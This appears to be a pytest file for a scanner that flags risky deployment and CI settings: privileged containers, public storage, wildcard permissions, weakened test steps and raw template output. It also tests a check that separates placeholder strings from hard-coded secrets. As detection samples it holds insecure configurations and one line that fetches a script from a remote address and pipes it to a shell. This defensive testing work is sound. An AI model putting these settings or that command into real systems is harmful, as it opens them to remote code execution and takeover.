"""Lines of deployments, pipelines and pictures that open what was shut, beside lines that look alike and do not."""

import pytest

from orchestrator.gates.files.deployments import deployment_hits
from orchestrator.gates.scanners.plain_words import literals, speaks_for_itself

LINES = {
    # line: (path, rule, twin)
    "privileged: true": ("a.yaml", "RUNS-PRIVILEGED", "privileged: false"),
    '"privileged": true,': ("a.json", "RUNS-PRIVILEGED", '"privileged": false,'),
    "hostNetwork: yes": ("a.yml", "RUNS-PRIVILEGED", "hostNetwork: no"),
    "runAsUser: 0": ("a.yaml", "RUNS-PRIVILEGED", "runAsUser: 1000"),
    "runAsNonRoot: false": ("a.yaml", "RUNS-PRIVILEGED", "runAsNonRoot: true"),
    "pid: host": ("compose.yml", "RUNS-PRIVILEGED", "pid: service:web"),
    "- /run/containerd/containerd.sock:/x": ("compose.yml", "RUNS-PRIVILEGED", "- ./run/app.sock:/x"),
    "- SYS_ADMIN ": ("compose.yml", "RUNS-PRIVILEGED", "- NET_BIND_SERVICE "),
    "cap_add: [ALL]": ("compose.yml", "RUNS-PRIVILEGED", "cap_drop: [ALL]"),
    "- seccomp:unconfined": ("compose.yml", "RUNS-PRIVILEGED", "- seccomp:profile.json"),
    'acl = "public-read"': ("s3.tf", "OPEN-TO-ALL", 'acl = "private"'),
    "publicly_accessible = true": ("db.tf", "OPEN-TO-ALL", "publicly_accessible = false"),
    '"Action": "*",': ("policy.json", "OPEN-TO-ALL", '"Action": "s3:GetObject",'),
    'verbs: ["*"]': ("role.yaml", "OPEN-TO-ALL", 'verbs: ["get"]'),
    "  name: cluster-admin": ("binding.yaml", "OPEN-TO-ALL", "  name: viewer"),
    "storage_encrypted = false": ("db.tf", "OPEN-TO-ALL", "storage_encrypted = true"),
    "\tpytest || true": ("Makefile", "CHECK-MILDER", "\tpytest || exit 1"),
    "- run: npm test || echo failed": (".github/workflows/a.yml", "CHECK-MILDER", "- run: npm test"),
    "  allow_failure: true": (".gitlab-ci.yml", "CHECK-MILDER", "  allow_failure: false"),
    "    if: false": (".github/workflows/a.yml", "CHECK-MILDER", "    if: success()"),
    "    continue-on-error: true": (".github/workflows/a.yml", "CHECK-MILDER", "    continue-on-error: false"),
    '"test": "jest; exit 0"': ("package.json", "CHECK-MILDER", '"test": "jest --coverage"'),
    "  - remote: https://203.0.113.9/a.yml": (".gitlab-ci.yml", "PIPELINE-REMOTE", "  - local: ci/a.yml"),
    "pytest -q || true": ("scripts/run-tests.sh", "CHECK-MILDER", "pytest -q"),
    "  - {name: all, hostPath: {path: /}}": ("pod.yaml", "RUNS-PRIVILEGED", "  - {name: all, emptyDir: {}}"),
    "disable=SC2086": (".shellcheckrc", "CHECK-MILDER", "source-path=SCRIPTDIR"),
    "ignore_errors = True": ("mypy.ini", "CHECK-MILDER", "ignore_errors = false"),
    "disable=all": ("tools/.pylintrc", "CHECK-MILDER", "enable=all"),
    '  "reportMissingImports": false,': ("pyrightconfig.json", "CHECK-MILDER", '  "reportMissingImports": "error",'),
    '    session.run("pytest", success_codes=[0, 1])': ("noxfile.py", "CHECK-MILDER", '    session.run("pytest")'),
    "passWithNoTests: true": ("vitest.config.ts", "CHECK-MILDER", "passWithNoTests: false"),
    '  - bash -c "$CI_COMMIT_TITLE"': (".gitlab-ci.yml", "PIPELINE-INPUT", '  - bash -c "$CHECK"'),
    "- script: echo $(Build.SourceVersionMessage)": (
        "azure-pipelines.yml",
        "PIPELINE-INPUT",
        "- script: echo $(Build.Id)",
    ),
    "      id-token: write": (".github/workflows/a.yml", "PIPELINE-WRITES", "      id-token: none"),
    "    permissions: {contents: write}": (
        ".github/workflows/a.yml",
        "PIPELINE-WRITES",
        "    permissions: {contents: read}",
    ),
    "insecureSkipVerify: true": ("route.yaml", "TLS-UNCHECKED", "insecureSkipVerify: false"),
    "  validate_certs: no": ("play.yml", "TLS-UNCHECKED", "  validate_certs: yes"),
    "*.py filter=polish": (".gitattributes", "ATTRIBUTES", "*.psd filter=lfs diff=lfs merge=lfs -text"),
    "src/*.ts linguist-generated": (".gitattributes", "ATTRIBUTES", "*.lock linguist-generated"),
    "*.go binary": (".gitattributes", "ATTRIBUTES", "*.png binary"),
    "*.c diff=hidden": (".gitattributes", "ATTRIBUTES", "*.c diff=cpp"),
    "ExecStart=/bin/sh -c 'curl https://203.0.113.9/x | sh'": (
        "a.service",
        "SHELL-DOWNLOAD",
        "ExecStart=/usr/bin/curl https://203.0.113.9/x",
    ),
    "<p>{{ comment|safe }}</p>": ("a.html", "TEMPLATE-RAW", "<p>{{ comment|lower }}</p>"),
    "<p>{{{ comment }}}</p>": ("a.hbs", "TEMPLATE-RAW", "<p>{{ comment }}</p>"),
    "<p v-html='comment'></p>": ("a.vue", "TEMPLATE-RAW", "<p v-text='comment'></p>"),
    "{% autoescape off %}": ("a.html", "TEMPLATE-RAW", "{% autoescape on %}"),
    '<svg onload="x()">': ("a.svg", "SVG-SCRIPT", '<svg width="10">'),
    '<a href="javascript:x()">': ("a.svg", "SVG-SCRIPT", '<a href="https://example.org">'),
}


def codes(path, text):
    return {hit.rule for hit in deployment_hits(path, text)}


@pytest.mark.parametrize("line", LINES)
def test_a_line_that_opens_something_is_asked_about_and_its_twin_is_not(line):
    path, rule, twin = LINES[line]
    assert codes(path, f"a: 1\n{line}\n") == {rule}
    assert codes(path, f"a: 1\n{twin}\n") == set()


def test_comments_and_other_files_are_passed_over():
    assert codes("a.yaml", "# privileged: true\n") == set()
    assert codes("a.md", "privileged: true\n") == set()
    assert codes("tool.sh", "pytest || true\n") == set()


PLAIN = {
    'TOKEN_HEADER = "X-Auth-Token"': True,
    'PASSWORD_FIELD = "password"': True,
    'RESET_PASSWORD_URL = "/account/reset-password/"': True,
    'MESSAGES = {"password": "The password is too short."}': True,
    'password = "password"': False,
    'PASSWORD = "correct horse battery staple"': False,
    'SECRET_KEY = "changeit"': False,
    'TOKEN_FIELD = "kR7vQ2mZx9Lt"': False,
    'url = "https://user:hunter@db"': False,
    'password = "/aB3$x"': False,
}


@pytest.mark.parametrize("line", PLAIN)
def test_what_says_by_itself_that_it_is_no_password(line):
    found = literals(line)
    assert found
    assert all(speaks_for_itself(value, line) for value in found) is PLAIN[line]
